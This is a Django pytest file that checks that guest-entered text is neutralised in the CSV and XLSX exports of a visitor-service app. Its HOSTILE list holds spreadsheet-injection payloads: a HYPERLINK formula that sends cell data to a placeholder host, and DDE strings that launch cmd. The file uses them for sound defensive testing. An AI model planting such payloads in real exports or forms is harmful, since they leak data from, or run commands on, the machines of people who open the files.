"""A formula typed by a guest never runs in a spreadsheet opened from any export.

Every dangerous start (= + - @, and a tab or carriage return before one) goes in through the real
doors: the desk's check-in, the lobby kiosk and the public pre-registration (arrived by its code at the
desk), then the Kasubbag's routing, the Bidang's consultation record and the guest's own survey. Every
export is read back: the SOP report as CSV and XLSX, the consultation history CSV, the IKM workbook and
the sop_report command. No text cell may start with one of those characters, every XLSX text cell is a
string (never a formula), and each typed value is there, neutralised with a leading apostrophe.
"""

import csv
import io
import re
import uuid

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from booking.models import Booking
from lobby.models import Device
from pojok.exports import FORMULA_STARTS, safe_cell
from survey.models import Invitation, Response
from tests.factories import bidang
from tests.lobby.conftest import pair_device
from tests.survey.conftest import all_answers
from visits.models import Consultation, State, Visit

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example/?d="&A1,"klik")',
    '+HYPERLINK("http://x.example/","klik")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2+cmd|' /C calc'!A0",
    "\r=3+4+cmd|' /C calc'!A0",
]
DOORS = ["desk", "kiosk", "booking"]
AT_THE_DOOR = {State.ARRIVING: "arrive", State.GREETING: "greet", State.REPORTING: "report"}


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "=", "-"])
def test_every_dangerous_start_is_neutralised(value):
    assert safe_cell(value) == "'" + value
    assert not safe_cell(value).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", ["Siti Aminah", "'=1", " =1", "A-001", "", "08123", "Rp 5.000"])
def test_ordinary_text_is_left_as_it_was(value):
    assert safe_cell(value) == value


def test_numbers_dates_and_empty_cells_are_written_as_they_are():
    assert [safe_cell(v) for v in (-5, 2.5, None, True)] == [-5, 2.5, None, True]


def _typed(text: str) -> str:
    return text.strip()  # the forms strip surrounding whitespace: the tab or CR goes, the "=" stays


def _check_in_at_desk(desk, text):
    response = desk.post(reverse("visits:check_in"), {"guest_name": text, "origin": text, "keperluan": text,
                                                     "party_size": 1})
    assert response.status_code == 302, response.content.decode()[:2000]


def _check_in_at_kiosk(tablet, text):
    response = tablet.post(reverse("lobby:kiosk"), {"key": str(uuid.uuid4()), "guest_name": text,
                                                   "origin": text, "keperluan": text})
    assert "data-kiosk-number" in response.content.decode()


def _register_and_arrive(desk, clock, text):
    guest = Client()
    page = guest.get(reverse("booking:register", args=["bpkad"])).content.decode()
    started = re.search(r'name="started" value="([^"]+)"', page).group(1)
    clock.advance(seconds=20)
    response = guest.post(reverse("booking:register", args=["bpkad"]), {
        "guest_name": text, "origin": text, "phone": "0812 3456 7890", "email": "", "keperluan": text,
        "planned_date": clock.today().isoformat(), "part_of_day": "pagi", "started": started, "website": ""})
    assert response.status_code == 302, response.content.decode()[:3000]
    booking = Booking.objects.get(guest_name=_typed(text))
    assert desk.post(reverse("booking:arrive"), {"code": booking.display_code}).status_code == 302


def _walk_through_the_sop(visit, text, *, people, clock):
    """Each step takes longer than its standard, so every visit is among the report's worst cases.

    Each person logs in again before acting: the steps take longer than the idle timeout."""
    def as_(role):
        client = Client()
        client.force_login(people[role])
        return client

    while visit.state in AT_THE_DOOR:  # the kiosk's guest starts at step 1, the desk's at step 2
        clock.advance(minutes=9)
        as_("petugas").post(reverse("visits:move", args=[visit.pk, AT_THE_DOOR[visit.state]]))
        visit.refresh_from_db()
    clock.advance(minutes=9)
    routed = as_("kasubbag").post(reverse("visits:triage_route", args=[visit.pk]), {
        "keperluan": text, "bidang": bidang("anggaran").pk, "topic": "", "assigned_to": "",
        "override_reason": text})
    assert routed.status_code == 302, routed.content.decode()[:3000]
    clock.advance(minutes=3)
    staff = as_("staf")
    staff.post(reverse("visits:receive", args=[visit.pk]), {"official": people["staf"].pk})
    clock.advance(minutes=20)
    recorded = staff.post(reverse("visits:consultation", args=[visit.pk]), {
        "action": "finish", "mode": "provision", "problem": text, "outcome": text, "other_documents": text})
    assert recorded.status_code == 302, recorded.content.decode()[:3000]
    clock.advance(minutes=9)
    desk = as_("petugas")
    desk.post(reverse("visits:move", args=[visit.pk, "see_out"]))
    assert desk.get(reverse("survey:invitation", args=[visit.pk])).status_code == 200
    token = Invitation.objects.get(visit=visit).token
    Client().post(reverse("survey:answer", args=[token]), {**all_answers(2), "suggestion": text,
                                                           "is_complaint": "on"})


@pytest.fixture
def hostile_visits(client_of, petugas, kasubbag, staf, pimpinan, admin_user, clock):
    people = {"petugas": petugas, "kasubbag": kasubbag, "staf": staf}
    _, tablet = pair_device(name="Tablet pintu", kind=Device.Kind.KIOSK, by=admin_user)
    for index, text in enumerate(HOSTILE):
        desk = Client()
        desk.force_login(petugas)
        door = DOORS[index % len(DOORS)]
        if door == "desk":
            _check_in_at_desk(desk, text)
        elif door == "kiosk":
            _check_in_at_kiosk(tablet, text)
        else:
            _register_and_arrive(desk, clock, text)
        visit = Visit.objects.get(guest_name=_typed(text))
        _walk_through_the_sop(visit, text, people=people, clock=clock)
    assert Visit.objects.filter(state=State.DONE).count() == len(HOSTILE)
    assert Consultation.objects.count() == Response.objects.exclude(suggestion="").count() == len(HOSTILE)
    return client_of(pimpinan)


def _csv_cells(text: str, delimiter: str = ";") -> list[str]:
    """The cells of a CSV: the downloads speak the Indonesian-Excel dialect (";"), the command the standard."""
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


def _xlsx_cells(content: bytes, sheet: str | None = None) -> list:
    book = load_workbook(io.BytesIO(content))
    sheets = [book[sheet]] if sheet else book.worksheets
    return [cell for each in sheets for row in each.iter_rows() for cell in row if cell.value is not None]


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))  # a decimal comma, too
    except ValueError:
        return False
    return True


def _assert_safe_csv(cells: list[str], *, must_hold: int = len(HOSTILE)) -> None:
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert dangerous == []
    found = {text for text in HOSTILE if "'" + _typed(text) in cells}
    assert len(found) >= must_hold, f"only {len(found)} typed values reached the export"


def _assert_safe_xlsx(cells, *, must_hold: int = len(HOSTILE)) -> None:
    text_cells = [cell for cell in cells if isinstance(cell.value, str)]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert {cell.data_type for cell in text_cells} == {"s"}
    assert [cell.value for cell in text_cells if cell.value.startswith(FORMULA_STARTS)] == []
    found = {text for text in HOSTILE if "'" + _typed(text) in {cell.value for cell in text_cells}}
    assert len(found) >= must_hold, f"only {len(found)} typed values reached the workbook"


TODAY = {"periode": "rentang", "dari": "2026-11-23", "sampai": "2026-11-23"}


def test_the_sop_report_csv_carries_no_formula(hostile_visits):
    response = hostile_visits.get(reverse("visits:report_csv"), TODAY)
    assert response.status_code == 200
    _assert_safe_csv(_csv_cells(b"".join(response.streaming_content).decode()))


def test_the_sop_report_xlsx_carries_no_formula(hostile_visits):
    response = hostile_visits.get(reverse("visits:report_xlsx"), TODAY)
    assert response.status_code == 200
    _assert_safe_xlsx(_xlsx_cells(response.content), must_hold=3)  # names only in the worst cases
    # the sheet the probe found: the worst cases, with the guest's name and origin
    _assert_safe_xlsx(_xlsx_cells(response.content, "Kasus lewat standar (terlama)"), must_hold=1)


def test_the_consultation_history_csv_carries_no_formula(hostile_visits):
    response = hostile_visits.get(reverse("visits:consultation_export"))
    assert response.status_code == 200
    cells = _csv_cells(b"".join(response.streaming_content).decode())
    _assert_safe_csv(cells)
    neutralised = {"'" + _typed(text) for text in HOSTILE}
    assert len([cell for cell in cells if cell in neutralised]) >= 4 * len(HOSTILE)  # name, origin, notes


def test_the_ikm_workbook_carries_no_formula(hostile_visits):
    response = hostile_visits.get(reverse("survey:export"), {"dari": "2026-11-01", "sampai": "2026-11-30"})
    assert response.status_code == 200
    _assert_safe_xlsx(_xlsx_cells(response.content))


def test_the_sop_report_command_writes_no_formula(hostile_visits):
    out = io.StringIO()
    call_command("sop_report", "--from", "2026-11-23", "--to", "2026-11-23", "--format", "csv", stdout=out)
    _assert_safe_csv(_csv_cells(out.getvalue(), delimiter=","), must_hold=1)


def test_one_guests_json_export_keeps_their_words_exactly(hostile_visits, client_of, admin_user):
    """JSON is not a spreadsheet: the guest's own data goes back to them unaltered."""
    typed = _typed(HOSTILE[0])
    admin = client_of(admin_user)
    found = admin.post(reverse("privacy:guest_data"), {"name": typed})
    rows = re.findall(r'name="pilih" value="([^"]+)"', found.content.decode())
    response = admin.post(reverse("privacy:guest_data"), {"name": typed, "aksi": "ekspor", "pilih": rows})
    assert response["Content-Type"].startswith("application/json")
    assert typed.replace('"', '\\"') in response.content.decode()
    assert "'" + typed not in response.content.decode()
